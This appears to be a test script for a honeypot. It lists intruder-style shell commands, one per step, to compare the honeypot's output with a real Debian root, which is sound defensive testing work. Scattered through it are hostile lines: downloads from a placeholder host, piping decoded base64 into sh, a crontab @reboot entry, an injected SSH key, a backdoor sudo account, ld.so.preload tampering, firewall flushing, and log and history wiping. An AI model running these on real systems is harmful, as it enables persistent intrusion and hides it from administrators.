# What intruders type, one line a step, in one login shell of root. `cargo xtask judge shell` runs it in a Debian 12 root
# and in the honeypot and compares what is printed (both streams, as they come) and the status of each line.
#
# A line `#= shape` before a step: numbers, dates and the width of blanks may differ, nothing else.
# A line `#= status` before a step: only the status and whether anything was printed.
# A line `#! REASON` before a step: it differs, and this is why; a step that no longer differs must lose its line.

# --- Who and where am I
id
whoami
groups
logname 2>/dev/null || echo none
echo $USER $LOGNAME $HOME $SHELL
pwd
hostname
cat /etc/hostname
hostname -f
hostname -I | wc -w
#! the judge's root runs on the kernel of the machine it is on, not on Debian's
uname -a
uname -s
uname -m
uname -p
uname -o
uname -s -m
#! the judge's root runs on the kernel of the machine it is on, not on Debian's
uname -r
uname -n
uname -x
arch
cat /etc/os-release
cat /etc/issue
cat /etc/issue.net
cat /etc/debian_version
lsb_release -a
cat /etc/redhat-release
cat /etc/*release | head -3
cat /proc/sys/kernel/ostype
#! the judge's root runs on the kernel of the machine it is on, not on Debian's
cat /proc/version | cut -d' ' -f1-3
#= shape
cat /proc/uptime
#= shape
cat /proc/loadavg
nproc > /dev/null; echo $?
grep -c ^processor /proc/cpuinfo | grep -q '[0-9]' && echo cpus
cat /proc/cpuinfo | grep name | cut -f2 -d: | sed -e 's/^ *//' | sort -u | wc -l
#= shape
cat /proc/cpuinfo | grep -m 1 processor
head -1 /proc/meminfo | awk '{print $1, $3}'
grep -E '^(MemTotal|MemFree|MemAvailable|Buffers|Cached|SwapTotal):' /proc/meminfo | awk '{print $1}'
free -m | awk 'NR==1{print $1,$2,$3}'
free | grep Mem | awk '{print NF}'
free -h | awk '{print $1}'
#= shape
uptime | sed 's/.*load/load/'
uptime -p | cut -c1-2
#= status
w
w -h | wc -l | grep -c '[0-9]'
#= status
last
date +%Z
date -u -d @0
date -d '2024-02-29 12:00:00 UTC' +%s
date +%Y | grep -c 20
TZ=America/New_York date -d @0
env | grep ^PATH=
echo $PATH
printenv HOME
export | grep -c declare | grep -q '[0-9]' && echo exported
set | grep ^BASH_VERSION=
echo $BASH_VERSION
echo $0
echo $-
echo $SHLVL
tty
ulimit -n > /dev/null; echo $?
ulimit -c
umask
umask -S
locale 2>/dev/null | head -1
which ls cat sh bash
which wget curl perl python3 gcc busybox tftp nc
type ls
type cd
type -t if
command -v sh
command -V echo
alias
history | wc -l

# --- Bots that test for a honeypot
echo -e "\x6F\x6B"
echo -e '\x41\x42\103'
echo -ne '\x47\x72\x6f\x70/' ; echo
/bin/busybox ECCHI
busybox MIRAI
/bin/busybox cat /proc/self/exe
enable
system
shell
linuxshell
sh -c 'echo nested; exit 3'
bash -c 'echo $0 $1' a b
/bin/sh -c "exit 4"
cat /bin/echo | head -c 4 | od -c
dd bs=52 count=1 if=/bin/echo 2>/dev/null | head -c 20 | od -An -tx1
dd if=/bin/ls bs=1 count=4 2>/dev/null | od -An -c
head -c 18 /bin/ls | od -An -tx1
while read i; do echo $i; done < /proc/mounts | wc -l | grep -q '[1-9]' && echo mounts
cat /proc/mounts | grep ' / ' | wc -l
cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; pwd
>/tmp/.x && cd /tmp; ls -la /tmp/.x | cut -d' ' -f1-4
rm -f /tmp/.x; ls /tmp/.x
cp /bin/echo /tmp/e && /tmp/e works; rm /tmp/e
cat /proc/self/status | head -1
cat /proc/self/comm
readlink /proc/self/exe
readlink /proc/$$/exe
ls /proc | grep -c '^[0-9]' | grep -q '[0-9]' && echo processes
ls -d /proc/1 /proc/self/fd
cat /proc/1/comm | wc -l
cat /proc/net/route | head -1
cat /proc/net/arp | head -1
cat /proc/net/tcp | head -1
cat /proc/net/dev | head -2
cat /proc/modules | wc -l | grep -c '[0-9]'
#= shape
cat /proc/sys/kernel/pid_max
cat /proc/filesystems | grep -w proc
cat /proc/partitions | head -1
cat /proc/swaps | head -1
cat /proc/nonexistent
echo $((0x1f)) $((1<<10)) $((7%3)) $((-7/2))
echo $RANDOM | grep -c '^[0-9]'
expr 6 \* 7
[ -w /etc/passwd ] && echo writable
test -x /usr/bin/wget; echo $?
[ -d /root/.ssh ] || echo nossh
false; echo $?
nosuchcommand
./nosuchfile
/nosuch/dir/prog
/tmp
/etc/passwd
exit 3 | cat; echo ${PIPESTATUS[0]}

# --- Looking around
#! a root made by debootstrap has no kernel, boot loader or file system of its own
ls /
ls -d /etc/ssh /etc/cron.d /var/log /usr/bin
ls -ld / /etc /root /tmp /var/tmp /home | awk '{print $1,$3,$4,$9}'
ls -l /etc/passwd /etc/shadow /etc/group /etc/sudoers | awk '{print $1,$3,$4,$9}'
ls -l /bin /sbin /lib | awk '{print $1,$9,$10,$11}'
ls -la /root | awk 'NR>1{print $1,$3,$4,$9}'
ls -a /etc/skel
cat /root/.profile
cat /root/.bashrc | head -20
cat /etc/skel/.profile | wc
cat /etc/profile | head -12
ls /etc/cron.daily /etc/cron.hourly /etc/cron.weekly
cat /etc/crontab | tail -12
ls -la /var/spool/cron | awk 'NR>1{print $1,$9}'
ls /nonexistent /etc/passwd
ls -Q /etc/passwd
ls --color=always -d /tmp
ls -i /etc/passwd | awk '{print NF}'
ls -lh /usr/bin/bash | awk '{print $1,$5}'
ls -l /usr/bin/bash /usr/bin/dash /usr/bin/cat | awk '{print $1,$5,$9}'
stat -c '%a %U %G %s %F' /usr/bin/bash
stat -c '%A %n' /etc/shadow /tmp
stat /nonexistent
file /etc/passwd
du -s /etc/ssh 2>/dev/null | awk '{print $2}'
df -h | head -1
df / | awk 'NR==2{print NF, $6}'
mount | awk '$3=="/"{print $2,$3,$4}'
lsblk 2>/dev/null | head -1
find /etc -maxdepth 1 -name 'pass*'
find /etc -maxdepth 1 -type f -name '*.conf' | sort | head -12
#! a root made by debootstrap has no kernel, boot loader or file system of its own
find / -maxdepth 1 -type l | sort
find /usr/bin -perm -4000 | sort
find /etc/ssh -type f | sort
find /tmp -name nothing -delete; echo $?
find / -name id_rsa 2>/dev/null | wc -l
find /home /root -name '.bash_history' 2>/dev/null | wc -l
find /nonexistent
find /etc -maxdepth 1 -newer /nonexistent
find /var/log -maxdepth 1 -type d | sort | head
grep -r PermitRootLogin /etc/ssh/sshd_config
grep -v '^#' /etc/ssh/sshd_config | grep .
cat /etc/ssh/ssh_host_ed25519_key.pub | awk '{print $1, NF}'
head -3 /etc/passwd
cut -d: -f1 /etc/passwd | head -18
awk -F: '$3>=1000 && $3<65534{print $6}' /etc/passwd | head -1 | cut -c1-6
wc -l < /etc/group | grep -c '[0-9]'
cut -d: -f1,3 /etc/group | head -10
head -1 /etc/shadow | cut -c1-8
getent passwd root
getent group sudo | cut -d: -f1,3
cat /etc/hosts | head -1
cat /etc/nsswitch.conf | grep ^passwd
cat /etc/fstab | wc -l | grep -c '[0-9]'
cat /etc/shells
cat /etc/host.conf
cat /etc/networks
cat /etc/services | grep -w ssh
cat /etc/protocols | grep ^tcp
cat /etc/login.defs | grep ^PASS_MAX
cat /etc/motd
cat /etc/environment
cat /etc/apt/sources.list | grep -c bookworm | grep -q '[0-9]' && echo sources
cat /etc/machine-id | wc -c
cat /etc/timezone
cat /etc/ld.so.conf
cat /etc/pam.d/sshd | grep -v '^#' | grep . | head -5
cat /etc/sudoers
cat /etc/nonexistent
cat /etc
cat /etc/passwd /nope | tail -1 | cut -d: -f7
tail -2 /nope
head -c 10 /nope
more /etc/hostname
less /etc/hostname < /dev/null
wc /etc/hostname | awk '{print $1,$2}'
md5sum /usr/bin/bash | awk '{print length($1),$2}'
md5sum /etc/debian_version
sha256sum /etc/debian_version
echo -n abc | md5sum
echo -n abc | sha1sum
sha512sum <<< x | cut -c1-16
cksum <<< hello
strings /nope
dmesg | head -1 | wc -l
lscpu | grep Arch
lspci 2>&1 | head -1
getconf LONG_BIT
getconf PAGE_SIZE
sysctl -n kernel.ostype
sysctl kernel.hostname | cut -d' ' -f1

# --- Processes, network, services
ps | head -1
ps aux | head -1
ps -ef | head -1
ps -eo pid,comm | head -1
ps aux | grep -v grep | grep -c bash | grep -q '[1-9]' && echo me
ps -p 1 -o pid= | tr -d ' '
ps x -o user= | sort -u | head -1
pgrep nosuchprocess; echo $?
pidof nosuchprocess; echo $?
pkill nosuchprocess; echo $?
killall nosuchprocess
kill -9 999999
kill -l 9
kill -l TERM
kill
top -b -n1 | sed -n 6,7p | head -1 | wc -l
netstat -tulpn 2>&1 | head -2
ss -tln | head -1
ip route show 2>&1 | wc -l | grep -c '[0-9]'
ip -V
ip nosuch
ip a | grep -c lo: | grep -q '[1-9]' && echo lo
ip addr show lo | head -1 | cut -d' ' -f1-3
ifconfig lo 2>&1 | head -1
route -n 2>&1 | head -2
arp -a 2>&1 | head -1 | wc -l | grep -c 1
iptables -L
iptables -F; echo $?
ufw status
nft list ruleset
systemctl --version | head -1 | cut -d' ' -f1
crontab -l
crontab -r
echo '* * * * * /tmp/.a' | crontab - && crontab -l
(crontab -l 2>/dev/null; echo '@reboot /tmp/.b') | crontab - ; crontab -l
ls -l /var/spool/cron/crontabs/root | awk '{print $1,$3,$4}'
cat /var/spool/cron/crontabs/root | tail -2
echo 'bad line' | crontab -
crontab -r; crontab -l
crontab /nope
service --status-all 2>/dev/null | grep -c ssh
service nosuch start
/etc/init.d/nosuch start

# --- Getting files
wget
wget --version | head -1
wget -q http://192.0.2.1:1/x -T 1 -t 1; echo $?
curl
curl --version | cut -d' ' -f1,2 | head -1
curl -s -m 1 http://192.0.2.1:1/x; echo $?
curl -o
curl nosuch://x
tftp -g 192.0.2.1
ftpget -v 192.0.2.1 a b
ftp
nc -h 2>&1 | head -1
telnet
scp
ssh 2>&1 | head -2
ssh -V
perl -e 'print "hi\n"'
perl -v | head -2
perl -e 'print 1+2,"\n"; die "x\n"'
python -c 'print(1)'
python3 -V 2>&1 | head -1
php -v
ruby -v
gcc --version
make
go version
node -v
lua -v
openssl version 2>&1 | cut -d' ' -f1,2
git --version
tar
tar --version | head -1
unzip
zip
docker ps
kubectl get pods
screen -ls
tmux ls
nano --version 2>&1 | head -1
vim --version
sudo -l 2>&1 | tail -1
sudo id
sudo -u nobody id
sudo --version | head -1
su -c id nobody
su nobody -s /bin/sh -c id
su - nosuch

# --- Dropping and running
cd /tmp
mkdir -p /tmp/.ICE-unix2/.rsync && cd /tmp/.ICE-unix2/.rsync && pwd
cd /tmp; rm -rf .ICE-unix2; ls -A | grep ICE-unix2
echo -ne '\x7f\x45\x4c\x46' > /tmp/elf; od -c /tmp/elf
echo -ne '\x01\x01' >> /tmp/elf; wc -c < /tmp/elf
printf '\177ELF\002' | od -An -tx1
chmod 777 /tmp/elf; ls -l /tmp/elf | cut -c1-10
/tmp/elf
chmod +x /tmp/elf && /tmp/elf; echo $?
cat > /tmp/s.sh <<< 'echo run $1 $#; exit 5'
sh /tmp/s.sh a b; echo $?
/tmp/s.sh
chmod u+x /tmp/s.sh; /tmp/s.sh x; echo $?
./s.sh y
. /tmp/s.sh | cat
printf '#!/bin/sh\necho shebang $0\n' > /tmp/b; chmod 755 /tmp/b; /tmp/b
printf '#!/no/such\n' > /tmp/c; chmod 755 /tmp/c; /tmp/c
nohup /tmp/b > /tmp/out 2>&1; cat /tmp/out
/tmp/b & wait; echo done
(sleep 0; echo sub) ; echo $?
base64 -d <<< 'ZWNobyBkZWNvZGVk' | sh
echo 'ZWNobyBi' | base64 --decode | bash
echo test | base64
echo @@@ | base64 -d
echo "hello" | tr a-z A-Z | rev
echo -n 6869 | xxd -r -p 2>&1
cat /tmp/b | sh
eval "$(echo 'echo evaluated')"
x='echo'; $x indirect
IFS=:; set -- $(echo a:b:c); echo $2 $#; unset IFS
for i in $(seq 1 3); do echo -n "$i,"; done; echo
i=0; while [ $i -lt 3 ]; do i=$((i+1)); printf '%02d ' $i; done; echo
until [ "$i" = 0 ]; do let i--; done; echo $i
case "$(uname -m)" in x86_64) echo 64;; i?86) echo 32;; *) echo other;; esac
f() { local a=$1; echo "f:$a"; return 2; }; f q; echo $?
[[ abc == a* ]] && echo glob
[[ abc =~ ^(a)(b) ]] && echo ${BASH_REMATCH[2]}
a=(x y z); echo ${a[1]} ${#a[@]} ${a[@]:1}
declare -A m; m[k]=v; echo ${m[k]} ${!m[@]}
s=/a/b.tar.gz; echo ${s##*/} ${s%.*} ${s%%.*} ${s/a/X} ${s^^} ${#s}
echo ${undefined:-default} ${HOME:+set}
(echo ${undefined?oops})
echo {1..4} {a,b}c
echo "a b" 'c $d' $'e\tf'
cat <(echo procsub)
tee /tmp/t1 /tmp/t2 <<< both; cat /tmp/t1 /tmp/t2
cat /tmp/t1 > /tmp/t3 2>&1; diff /tmp/t1 /tmp/t3; echo $?
echo new > /tmp/t3; diff /tmp/t1 /tmp/t3
cmp /tmp/t1 /tmp/t3
sed -i 's/new/old/' /tmp/t3; cat /tmp/t3
sed -n '1p;$p' /etc/passwd | cut -d: -f1
sed 's/[aeiou]/_/g; y/bc/BC/' <<< 'abcde'
sed -e '/^root/!d' -e 's/:.*//' /etc/passwd
sed 's/x'
awk 'BEGIN{for(i=0;i<3;i++) s=s i; print s, length(s)}'
awk -F: '/^root/{print $1"-"$7}' /etc/passwd
awk '{a[$1]++} END{for(k in a) print k, a[k]}' <<< 'z'
awk 'BEGIN{printf "%5.2f|%-4s|%x\n", 3.14159, "ab", 255}'
awk '{'
grep -c root /etc/passwd
grep -n '^root' /etc/passwd | cut -d: -f1,2
grep -E 'ro{2}t' -o /etc/passwd | sort | uniq -c | awk '{print $2}'
grep nothing /etc/passwd; echo $?
grep x /nope; echo $?
grep
echo one two | xargs -n1 echo got
printf 'a\nb\n' | xargs -I{} echo '<{}>'
printf '3\n1\n2\n' | sort -r | head -2
printf 'b 2\na 10\n' | sort -k2 -n
printf 'a\na\nb\n' | uniq -c
printf 'x\ty\n' | cut -f2
paste -sd, <<< $'1\n2'
echo abc | fold -w2
seq -s' ' 5
yes | head -2
nl <<< line
tac <<< $'1\n2'
basename /a/b.c .c
dirname /a/b.c
readlink -f /bin
realpath /bin/sh
ln -s /etc/passwd /tmp/l && ls -l /tmp/l | awk '{print $1,$9,$10,$11}'
ln -s /tmp/l /tmp/l
touch /tmp/t4 && [ -e /tmp/t4 ] && echo touched
touch -d '2020-01-01 00:00:00 UTC' /tmp/t4; stat -c %Y /tmp/t4
touch /nope/x
mv /tmp/t4 /tmp/t5; ls /tmp/t5
mv /nope /tmp
cp /nope /tmp
cp -r /etc/ssh /tmp/sshcopy; ls /tmp/sshcopy | head -2
rm -r /tmp/sshcopy; rm /tmp/sshcopy
rmdir /etc
mkdir /tmp
mkdir /a/b/c
rm -rf /tmp/nothing; echo $?
rm /etc/ssh
chmod 600 /tmp/t1; stat -c %a /tmp/t1
chmod a-r,g+w /tmp/t2; stat -c %A /tmp/t2
chmod 9 /tmp/t2
chown nobody:nogroup /tmp/t2; stat -c %U:%G /tmp/t2
chown nosuch /tmp/t2
dd if=/dev/zero of=/tmp/z bs=1k count=4 2>&1 | head -2
ls -l /tmp/z | awk '{print $5}'
truncate -s 10 /tmp/z; stat -c %s /tmp/z
tar cf /tmp/a.tar -C /etc hostname && tar tf /tmp/a.tar
tar xOf /tmp/a.tar hostname | diff - /etc/hostname && echo same
tar czf /tmp/a.tgz -C /etc hostname hosts && tar tzvf /tmp/a.tgz | awk '{print $1,$2,$6}'
mkdir /tmp/x && tar xzf /tmp/a.tgz -C /tmp/x && ls /tmp/x
tar xf /nope
gzip -c /etc/hostname | gunzip | diff - /etc/hostname && echo same
gzip /tmp/t5; ls /tmp/t5*
gunzip /tmp/t5.gz; ls /tmp/t5*
zcat /nope
rm -rf /tmp/* ; ls /tmp | wc -l

# --- Staying
mkdir -p ~/.ssh && chmod 700 ~/.ssh && echo 'ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAAAgQC test' >> ~/.ssh/authorized_keys && cat ~/.ssh/authorized_keys
chmod -R go= ~/.ssh; ls -ld ~/.ssh | cut -c1-10; ls -l ~/.ssh/authorized_keys | cut -c1-10
cat ~/.ssh/authorized_keys | wc -l
chattr +ia ~/.ssh/authorized_keys 2>/dev/null; lsattr ~/.ssh/authorized_keys 2>/dev/null | wc -l
chattr -ia ~/.ssh/authorized_keys 2>/dev/null; rm -rf ~/.ssh; ls -d ~/.ssh
useradd -m -s /bin/bash backdoor; echo $?
id backdoor | sed 's/[0-9]\+/N/g'
echo 'backdoor:Secret123' | chpasswd; echo $?
grep -c '^backdoor:\$y\$' /etc/shadow
ls -a /home/backdoor
usermod -aG sudo backdoor; id -nG backdoor
su backdoor -c whoami
su - backdoor -c pwd
userdel -r backdoor; id backdoor
useradd root
userdel nosuch
groupadd evil && getent group evil | cut -d: -f1; groupdel evil
echo -e 'x\nx' | passwd nosuch
passwd -S root | awk '{print $1,NF}'
echo 'export EVIL=1' >> ~/.bashrc; tail -1 ~/.bashrc; sed -i '$d' ~/.bashrc
echo '[Unit]' > /etc/systemd/system/evil.service; ls /etc/systemd/system/evil.service; rm /etc/systemd/system/evil.service
echo '127.0.0.1 evil' >> /etc/hosts; tail -1 /etc/hosts
echo /tmp/lib.so > /etc/ld.so.preload; cat /etc/ld.so.preload; rm /etc/ld.so.preload
history -c; history | wc -l
unset HISTFILE HISTSIZE; echo $HISTFILE
export HISTFILE=/dev/null; echo $HISTFILE
ln -sf /dev/null ~/.bash_history; readlink ~/.bash_history; rm ~/.bash_history
echo > /var/log/wtmp; wc -c < /var/log/wtmp
rm -rf /var/log/btmp; ls /var/log/btmp
cat /dev/null > /var/log/lastlog; stat -c %s /var/log/lastlog
apt-get install -y nosuchpackage-xyz 2>&1 | tail -1
dpkg -l bash | tail -1 | awk '{print $1,$2,$4}'
dpkg -s bash | head -3
dpkg -S /usr/bin/bash
dpkg --version | head -1
apt --version | cut -d' ' -f1
dpkg -l nosuch
apt-cache policy bash | head -2
